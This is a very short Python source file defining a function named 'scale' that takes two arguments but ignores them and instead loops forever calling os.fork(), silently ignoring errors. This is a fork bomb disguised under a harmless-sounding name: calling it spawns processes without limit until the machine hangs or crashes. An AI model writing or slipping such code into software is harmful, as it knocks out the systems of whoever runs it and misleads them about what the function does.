import os


def scale(x, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
